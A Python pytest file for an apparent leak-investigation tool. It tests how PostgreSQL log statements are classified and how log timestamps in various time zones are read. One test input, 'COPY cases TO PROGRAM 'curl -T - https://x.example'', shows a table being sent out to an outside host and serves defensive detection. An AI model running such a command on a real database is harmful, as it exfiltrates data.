"""The PostgreSQL log parser on its own: what a statement means (the samples are read in
test_formats.py)."""

from __future__ import annotations

from pathlib import Path
from zoneinfo import ZoneInfo

import pytest
from investigate_helpers import run_investigation

from leakhound.investigate.actions import BULK_READ, FILE_WRITE, READ, WRITE
from leakhound.investigate.formats.postgresql import statement_action


@pytest.mark.parametrize(
    ("sql", "app", "want"),
    [
        ("SELECT * FROM cases", None, (READ, "cases")),
        ("COPY public.cases (id, email) TO stdout;", "pg_dump", (BULK_READ, "public.cases")),
        ("COPY cases FROM stdin", None, (WRITE, "cases")),
        # the server writes a file on its own disk, or feeds a program: not to the client
        ("COPY cases TO '/var/lib/postgresql/cases.csv' WITH CSV", None, (FILE_WRITE, "cases")),
        ("copy (select * from cases) to e'/tmp/c.csv'", None, (FILE_WRITE, None)),
        ("COPY cases TO PROGRAM 'curl -T - https://x.example'", None, (FILE_WRITE, "cases")),
    ],
)
def test_a_statements_action_and_table(
    sql: str, app: str | None, want: tuple[int, str | None]
) -> None:
    action, table = statement_action(sql, app)
    assert action == want[0], sql
    if want[1] is not None:
        assert table == want[1], sql


# As PostgreSQL 15.18 wrote them with log_timezone = 'Europe/Berlin' (csvlog): log_time carries
# the zone's abbreviation, not an offset.
CSV_CET = (
    '2026-12-07 00:36:17.121 CET,"postgres","postgres",3417,"127.0.0.1:40132",6b15f171.d59,3,'
    '"idle",2026-12-07 00:36:17 CET,3/2,0,LOG,00000,"statement: select count(*) from pg_class"'
    ',,,,,,,,,"psql","client backend",,0\n'
)


def _at(when: str) -> str:
    return CSV_CET.replace("2026-12-07 00:36:17.121 CET", when, 1)


def test_a_log_time_in_a_zone_abbreviation_is_read(tmp_path: Path) -> None:
    path = tmp_path / "postgresql.csv"
    path.write_text(CSV_CET + _at("2026-07-01 12:00:00.000 CEST").replace("40132", "40133"))
    inv = run_investigation(path)
    f = inv.files[0]
    assert (f.format, f.parsed, f.skipped) == ("postgresql", 2, 0)
    assert (f.first, f.last) == ("2026-07-01T10:00:00Z", "2026-12-06T23:36:17Z")


def test_an_ambiguous_abbreviation_needs_the_servers_zone(tmp_path: Path) -> None:
    path = tmp_path / "postgresql.csv"
    path.write_text(CSV_CET + _at("2026-12-07 05:06:17.000 IST"))
    f = run_investigation(path).files[0]
    assert (f.parsed, f.skipped) == (1, 1)
    assert "give --log-time-zone" in f.skipped_examples[0].reason
    inv = run_investigation(path, log_zone=ZoneInfo("Asia/Kolkata"))
    assert (inv.files[0].parsed, inv.files[0].skipped) == (2, 0)
    assert inv.sources[0].last_seen == "2026-12-06T23:36:17Z"


def test_the_abbreviation_picks_the_side_of_a_summer_time_change(tmp_path: Path) -> None:
    # 02:30 comes twice on 2026-10-25 in Berlin: CEST first, then CET
    path = tmp_path / "postgresql.csv"
    path.write_text(_at("2026-10-25 02:30:00.000 CEST") + _at("2026-10-25 02:30:00.000 CET"))
    for zone in (None, ZoneInfo("Europe/Berlin")):
        f = run_investigation(path, log_zone=zone).files[0]
        assert (f.first, f.last) == ("2026-10-25T00:30:00Z", "2026-10-25T01:30:00Z")


@pytest.mark.parametrize(
    ("when", "utc"),
    [
        pytest.param("2026-12-07 05:51:17.000 +0545", "2026-12-07T00:06:17Z", id="kathmandu"),
        pytest.param("2026-12-07 03:36:17.000 +0330", "2026-12-07T00:06:17Z", id="tehran"),
        pytest.param("2026-12-06 21:06:17.000 -03", "2026-12-07T00:06:17Z", id="sao-paulo"),
    ],
)
def test_a_zone_without_an_abbreviation_is_read_by_its_offset(
    tmp_path: Path, when: str, utc: str
) -> None:
    # The tz database names such zones by their offset, minutes included when there are some.
    path = tmp_path / "postgresql.csv"
    path.write_text(_at(when))
    f = run_investigation(path).files[0]
    assert (f.parsed, f.skipped) == (1, 0)
    assert f.first == utc


def test_pst_is_read_only_with_the_servers_zone(tmp_path: Path) -> None:
    # PST is the US Pacific (-08) and the Philippines (+08, Asia/Manila): 16 hours apart.
    path = tmp_path / "postgresql.csv"
    path.write_text(_at("2026-12-07 08:36:17.000 PST"))
    f = run_investigation(path).files[0]
    assert (f.parsed, f.skipped) == (0, 1)
    assert "give --log-time-zone" in f.skipped_examples[0].reason
    for zone, utc in (
        ("America/Los_Angeles", "2026-12-07T16:36:17Z"),
        ("Asia/Manila", "2026-12-07T00:36:17Z"),
    ):
        f = run_investigation(path, log_zone=ZoneInfo(zone)).files[0]
        assert (f.parsed, f.first) == (1, utc), zone
